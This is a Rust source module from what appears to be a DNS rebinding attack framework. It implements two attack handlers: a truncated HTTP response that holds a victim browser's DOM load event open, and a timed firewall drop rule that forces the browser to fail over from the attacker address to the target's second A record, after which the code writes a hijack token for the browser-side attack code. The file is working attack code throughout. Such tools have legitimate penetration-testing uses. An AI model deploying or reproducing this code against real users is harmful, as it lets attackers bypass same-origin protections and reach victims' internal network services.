//! Raw-connection handlers.
//!
//! Two routes take the TCP stream away from the normal response path: the
//! DOM-load stall, and the multi-A firewall trick that drops the
//! attacker-bound flow so the browser fails over to the target address.

use std::net::SocketAddr;
use std::sync::Arc;

use log::{info, warn};
use tokio::io::{AsyncWrite, AsyncWriteExt};

use crate::config::constants::{DOM_LOAD_STALL, FIREWALL_RULE_LIFETIME, HIJACK_TOKEN};
use crate::firewall::{FlowRule, PacketFilter};

/// Byte-exact stall response: four bytes promised, three delivered.
/// The browser keeps the document open waiting for the missing byte.
const STALL_RESPONSE: &[u8] = b"HTTP/1.1 200 OK\r\n\
Cache-Control: no-cache, no-store, must-revalidate\r\n\
Content-Length: 4\r\n\
Content-Type: text/html\r\n\
Expires: 0\r\n\
Pragma: no-cache\r\n\
X-DNS-Prefetch-Control: off\r\n\
X-Singularity-Of-Origin: t\r\n\
Connection: close\r\n\r\n<ht";

/// Holds the victim's DOM load event hostage for a while, then closes.
pub async fn delay_dom_load<S>(mut stream: S)
where
    S: AsyncWrite + Unpin,
{
    if let Err(e) = stream.write_all(STALL_RESPONSE).await {
        warn!("HTTP: could not write stall response: {}", e);
        return;
    }
    let _ = stream.flush().await;
    tokio::time::sleep(DOM_LOAD_STALL).await;
    // closing the stream on drop fires the DOM load event at last
}

/// Drops the attacker-bound flow at the packet filter, then signals the
/// browser-side attack code.
///
/// The drop rule covers the observed source port plus a small window for
/// browser reconnects and removes itself after a few seconds. The token
/// is written only after the rule is installed, so the browser observes
/// one response on the attacker origin and every retry afterwards lands
/// on the second A record.
pub async fn firewall_trick<S>(
    mut stream: S,
    peer: SocketAddr,
    local: SocketAddr,
    filter: Arc<dyn PacketFilter>,
) where
    S: AsyncWrite + Unpin,
{
    info!("HTTP: implementing firewall rule for {}", peer);

    let rule = FlowRule {
        src_ip: peer.ip(),
        src_port: peer.port(),
        dst_ip: local.ip(),
        dst_port: local.port(),
    };

    if let Err(e) = filter.add_rule(&rule) {
        warn!("HTTP: could not install firewall rule for {}: {}", peer, e);
    }

    let removal_filter = filter.clone();
    let removal_rule = rule.clone();
    tokio::spawn(async move {
        tokio::time::sleep(FIREWALL_RULE_LIFETIME).await;
        if let Err(e) = removal_filter.remove_rule(&removal_rule) {
            warn!("HTTP: could not remove firewall rule {:?}: {}", removal_rule, e);
        }
    });

    // Written even when the rule failed: the side channel must stay
    // readable for the attack code either way.
    if let Err(e) = stream.write_all(HIJACK_TOKEN.as_bytes()).await {
        warn!("HTTP: could not write hijack token to {}: {}", peer, e);
        return;
    }
    let _ = stream.flush().await;
}
